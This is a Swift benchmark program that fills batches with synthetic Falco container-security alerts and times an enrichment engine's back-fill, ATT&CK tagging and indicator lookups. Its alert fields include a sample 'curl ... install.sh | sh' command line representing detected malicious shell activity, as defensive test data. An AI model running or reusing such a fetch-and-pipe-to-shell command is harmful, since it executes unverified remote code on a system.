// SPDX-License-Identifier: Apache-2.0
//
// What enrichment costs an alert: batches of realistic alerts, again and again, on one thread.
//
//   enrich-benchmark [PASSES]     seconds are processor time of this thread; the best of five runs counts
import AlertEngine
import AlertModel
import CAlertBatch
import CAllocations
import Enrichment
import Glibc

let passes = CommandLine.arguments.count > 1 ? Int(CommandLine.arguments[1]) ?? 200 : 200
let alertsPerBatch = 1_024

/// Sixteen fields and five tags, as Falco's rules for containers send; every fourth alert lacks its metadata.
func batch(_ seed: Int, containers: Int) -> AlertBatch {
    let builder = AlertBatchBuilder(byteCapacity: 2 << 20, recordCapacity: alertsPerBatch)
    let raw = unsafe builder.raw
    func text(_ value: String) -> calert_slice {
        let bytes = Array(value.utf8)
        guard let place = unsafe calert_batch_reserve_bytes(raw, UInt32(bytes.count)) else { return calert_slice() }
        for (index, byte) in bytes.enumerated() { unsafe place[index] = byte }
        let slice = unsafe calert_slice(offset: raw.pointee.byte_count, length: UInt32(bytes.count))
        unsafe raw.pointee.byte_count += UInt32(bytes.count)
        return slice
    }
    let tactics = ["mitre_execution", "mitre_persistence", "mitre_discovery", "mitre_privilege_escalation"]
    let techniques = ["T1059", "T1098", "T1613", "T1611", "T1105", "T1070"]
    for index in 0 ..< alertsPerBatch {
        let number = seed &* 7_919 &+ index &* 31
        let container = number % containers
        let id = String(repeating: "0", count: 12 - String(container, radix: 16).count) + String(container, radix: 16)
        let isKnown = index % 4 != 0
        let fields: [(String, String)] = [
            ("container.id", id), ("container.image.repository", isKnown ? "registry.example/shop/web" : "<NA>"),
            ("container.image.tag", isKnown ? "2.\(container % 9)" : "<NA>"),
            ("container.name", isKnown ? "web-\(container)" : "<NA>"), ("evt.type", "execve"),
            ("fd.name", "10.0.0.7:44211->203.0.\(number % 250).9:443"), ("fd.sip", "203.0.\(number % 250).9"),
            ("fd.cip", "10.0.0.7"), ("fd.sport", "443"), ("fd.sip.name", "cdn.x\(number % 999).example"),
            ("k8s.ns.name", isKnown ? "shop" : "<NA>"),
            ("k8s.pod.name", isKnown ? "web-7c9d8b5f6d-\(container)" : "<NA>"),
            ("proc.cmdline", "bash -c curl -s http://10.0.0.\(number % 250)/install.sh | sh"),
            ("proc.exepath", "/usr/bin/bash"), ("proc.name", "bash"), ("proc.pname", "runc"), ("user.name", "root"),
        ]
        let tags = ["container", "shell", "maturity_stable", tactics[number % 4], techniques[number % 6]]
        let hostname = text("node-\(container % 50).cluster.example")
        guard let record = unsafe calert_batch_append_record(raw) else { continue }
        unsafe record.pointee.hostname = hostname
        unsafe record.pointee.first_field = raw.pointee.field_count
        unsafe record.pointee.first_tag = raw.pointee.tag_count
        unsafe record.pointee.field_count = UInt16(fields.count)
        unsafe record.pointee.tag_count = UInt16(tags.count)
        unsafe calert_record_set_time(record, true, 1_700_000_000_000_000_000, 1_700_000_000_000_000_000)
        for tag in tags {
            let slice = text(tag)
            if let place = unsafe calert_batch_append_tag(raw) { unsafe place.pointee = slice }
        }
        for (name, value) in fields {
            let (key, slice) = (text(name), text(value))
            guard let field = unsafe calert_batch_append_field(raw) else { continue }
            unsafe field.pointee.key = key
            unsafe field.pointee.text = slice
            let (keyBytes, valueBytes) = unsafe (calert_slice_bytes(raw, key), calert_slice_bytes(raw, slice))
            unsafe calert_set_text(field, keyBytes, Int(key.length), valueBytes, Int(slice.length))
        }
    }
    return builder.seal()
}

func processorSeconds() -> Double {
    var time = timespec()
    unsafe clock_gettime(CLOCK_THREAD_CPUTIME_ID, &time)
    return Double(time.tv_sec) + Double(time.tv_nsec) / 1e9
}

func measure(_ name: String, _ batches: [AlertBatch], _ enricher: consuming Enricher) {
    var added = AddedFields()
    // Everything is met once before it counts.
    for batch in batches { enricher.enrich(batch, into: &added) }
    var best = Double.infinity
    let before = allocations_of_this_thread()
    for _ in 0 ..< 5 {
        let start = processorSeconds()
        for pass in 0 ..< passes { enricher.enrich(batches[pass % batches.count], into: &added) }
        best = min(best, processorSeconds() - start)
    }
    let allocations = allocations_of_this_thread() - before
    let alerts = Double(passes * alertsPerBatch)
    print(
        "\(name)\t\((best / alerts * 1e10).rounded() / 10) ns/alert\t\((alerts / best / 1e4).rounded() / 100) M alerts/s"
            + "\t\(allocations) allocations in \(5 * passes * alertsPerBatch) alerts")
}

var sources = TableSources()
sources.indicators = [TableSources.Indicators(name: "feed", file: "feed")]
sources.lookups = [TableSources.Lookup(name: "owner", file: "owners", key: "k8s.ns.name", columns: ["team", "tier"])]
let feed = (0 ..< 100_000).map { "198.\(18 + $0 % 2).\($0 / 2 % 256).\($0 / 512 % 256)\nx\($0).example\n" }.joined()
let files = [
    TableFile(path: "feed", bytes: Array(feed.utf8)),
    TableFile(path: "owners", bytes: Array("ns,team,tier\nshop,cart,1\npay,money,1\n".utf8)),
]
let built = TableGeneration.build(sources, from: files, key: HashKey(low: 1, high: 2))
precondition(built.problems.isEmpty, "\(built.problems)")
let tables = built.generation?.tables ?? EnrichTables()

let hot = (0 ..< 8).map { batch($0, containers: 500) }
let many = (0 ..< 64).map { batch($0 * 1_000, containers: 40_000) }
let wanted = WantedFields.only([FieldName("k8s.ns.name")])
measure("nothing", hot, Enricher(.off))
measure("attack", hot, Enricher(EnrichSettings(backfill: false)))
measure("back-fill, 500 containers", hot, Enricher(EnrichSettings(attack: false)))
measure("back-fill, 40,000 containers", many, Enricher(EnrichSettings(backfillMemory: 64 << 20, attack: false)))
measure("back-fill, one field wanted", hot, Enricher(EnrichSettings(wanted: wanted)))
measure("back-fill and attack", hot, Enricher(EnrichSettings()))
measure("indicators and lookup", hot, Enricher(EnrichSettings(backfill: false, attack: false), tables: tables))
measure("all of it", hot, Enricher(EnrichSettings(), tables: tables))
if CommandLine.arguments.count > 2 {
    var geo = TableSources()
    geo.addresses = TableSources.Addresses(
        databases: Array(CommandLine.arguments[2...]), fields: ["fd.sip", "fd.rip", "fd.cip"], maxAge: nil)
    let loaded = TableGeneration.load(geo, key: HashKey(low: 1, high: 2))
    precondition(loaded.problems.isEmpty, "\(loaded.problems)")
    let databases = loaded.generation?.tables ?? EnrichTables()
    measure("databases", hot, Enricher(EnrichSettings(backfill: false, attack: false), tables: databases))
}
